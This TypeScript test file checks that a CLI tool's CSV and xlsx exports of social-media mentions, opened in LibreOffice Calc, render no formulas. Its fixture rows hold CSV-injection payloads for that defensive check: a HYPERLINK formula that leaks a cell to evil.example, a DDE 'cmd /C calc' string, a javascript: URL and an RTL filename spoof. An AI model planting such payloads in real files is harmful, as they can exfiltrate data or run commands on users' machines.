import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS } from '../../src/report/export-columns.js';
import { cliBackends } from '../support/cli-backends.js';
import { makeTempDir, runCli } from '../support/cli.js';
import { hasSoffice, readWithCalc, SOFFICE, type CalcCell } from '../support/libreoffice.js';

/**
 * The CSV and xlsx exports of hostile mentions, opened by a real spreadsheet client
 * (LibreOffice Calc, headless): no formula from mention text, multi-line cells and
 * emoji intact, and in the xlsx ids exact, dates as dates, links as links (issue 15).
 */
const ROWS = [
  { id: '1859236457122451456', text: 'ok tea\n=1+1', author: '@bob', url: 'https://x.com/bob/status/1859236457122451456', metrics: { likes: 3 } },
  { id: '0012345', text: '=HYPERLINK("https://evil.example/?leak="&A1,"click")', author: '+cmd', url: 'javascript:alert(1)' },
  { id: '9007199254740993', text: "+cmd|' /C calc'!A0\r\n-2+3\r@SUM(1+1)*cmd|", author: '-minus', metrics: { score: -4 } },
  { id: 'ab-1', text: '\t=1+1 after a tab, then\n\ttab =2+2 and 🫖🍵 emoji, RTL \u202egnp.exe\u202c, שלום', author: '=cmd' },
  { id: '00', text: 'two\n\nblank lines\n\n=3+3 at the end\n', author: null, url: 'https://example.com/a?b=1,2' },
  { id: '1e5', text: 'a cell of "quotes", commas, ; semicolons and a trailing space ', author: 'ünï' },
].map((r, i) => ({ source: 'x', created_at: `2026-11-20T0${i}:15:00Z`, brand: 'Acme', ...r }));

const tmp = makeTempDir('earshot-calc-');
const backends = await cliBackends();
beforeAll(() => writeFileSync(join(tmp.dir, 'hostile.jsonl'), `${ROWS.map((r) => JSON.stringify(r)).join('\n')}\n`));
afterAll(async () => {
  for (const backend of backends) await backend.cleanup();
  tmp.cleanup();
});

const col = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);
/**
 * Line breaks as Calc reads them (CRLF and CR become LF). Calc 7.4 also drops tab
 * characters from cells that span lines (the files hold them: see xlsx.test.ts), so
 * multi-line texts are compared without tabs.
 */
const lines = (text: string) => {
  const lf = text.replace(/\r\n?/g, '\n');
  return lf.includes('\n') ? lf.replace(/\t/g, '') : lf;
};
/** Calc holds a boolean as the formula TRUE() or FALSE(): that is the is_* columns' type, not a formula from any text. */
const isBoolean = (cell: CalcCell) => /^of:=(TRUE|FALSE)\(\)$/.test(cell.formula ?? '');
const BOOLEANS = [col('is_complaint'), col('is_safety'), col('is_question'), col('is_suggestion')];
const formulas = (sheet: CalcCell[][]) => sheet.flatMap((row) => row.filter((c, i) => c.formula !== undefined && !(BOOLEANS.includes(i) && isBoolean(c))));

if (!hasSoffice) console.warn(`[spreadsheet-client] ${SOFFICE} not found: the LibreOffice round trip is SKIPPED (apt-get install -y libreoffice-calc; CI installs it)`);

for (const backend of backends) describe.skipIf(!hasSoffice || !backend.available)(`exports opened in LibreOffice Calc (${backend.name})`, () => {
  const db = backend.fresh(tmp.dir, 'calc.db');
  let csv: CalcCell[][];
  let xlsx: CalcCell[][];
  beforeAll(async () => {
    expect((await runCli(['--db', db, 'import', 'hostile.jsonl'], { cwd: tmp.dir })).code).toBe(0);
    for (const [format, out] of [['csv', `${backend.name}-export.csv`], ['xlsx', `${backend.name}-export.xlsx`]]) {
      const result = await runCli(['--db', db, 'export', '--format', format!, '--out', out!], { cwd: tmp.dir });
      expect(result.code, result.stderr).toBe(0);
    }
    const sheets = await readWithCalc([join(tmp.dir, `${backend.name}-export.csv`), join(tmp.dir, `${backend.name}-export.xlsx`)]);
    csv = sheets[0]!;
    xlsx = sheets[1]!;
  }, 180_000);

  it('xlsx: typed cells, exact ids and texts, dates, links and numbers, and no formula', () => {
    expect(formulas(xlsx)).toEqual([]);
    expect(xlsx[0]!.map((c) => c.text)).toEqual([...EXPORT_COLUMNS]);
    const byId = new Map(xlsx.slice(1).map((row) => [row[col('id')]!.text, row]));
    expect([...byId.keys()].sort()).toEqual(ROWS.map((r) => r.id).sort());
    for (const r of ROWS) {
      const row = byId.get(r.id)!;
      expect(row[col('id')]!.type).toBe('string');
      expect(row[col('text')]).toMatchObject({ type: 'string', text: lines(r.text) });
      expect(row[col('author')]!.text).toBe(r.author ?? '');
      expect(row[col('created_at')]).toMatchObject({ type: 'date', value: r.created_at.replace(/Z$/, '') });
      expect(row[col('sentiment')]!.type).toBe('float');
      expect(row[col('complaint')]!.type).toBe('float');
      expect(isBoolean(row[col('is_complaint')]!)).toBe(true);
      expect(row[col('safety')]!.type).toBe('float');
      expect(isBoolean(row[col('is_safety')]!)).toBe(true);
      if (r.url?.startsWith('https://')) expect(row[col('url')]).toMatchObject({ type: 'string', link: r.url.replace(/&/g, '&amp;'), text: r.url });
      else if (r.url) expect(row[col('url')]!.link).toBeUndefined();
    }
    expect(byId.get('1859236457122451456')![col('likes')]).toMatchObject({ type: 'float', value: '3' });
    expect(byId.get('9007199254740993')![col('score')]).toMatchObject({ type: 'float', value: '-4' });
  });

  it('CSV: one record per mention, no formula from any line of a cell, multi-line cells and emoji intact', () => {
    expect(formulas(csv)).toEqual([]);
    expect(csv).toHaveLength(ROWS.length + 1);
    expect(csv.every((row) => row.length <= EXPORT_COLUMNS.length)).toBe(true);
    // the guard's apostrophe at the start of a line that would be a formula is the only
    // change (Calc shows it on some lines and takes it as its text marker on others)
    const unguarded = (text: string) => lines(text.replace(/(^|\n|\r)'(?=[=+\-@\t])/g, '$1'));
    const texts = csv.slice(1).map((row) => unguarded(row[col('text')]!.text));
    for (const r of ROWS) expect(texts).toContain(lines(r.text));
    // is_complaint's and is_safety's true/false are read as booleans
    expect(csv.slice(1).every((row) => isBoolean(row[col('is_complaint')]!) && isBoolean(row[col('is_safety')]!))).toBe(true);
    expect(texts.join('')).toContain('🫖🍵');
  });
});
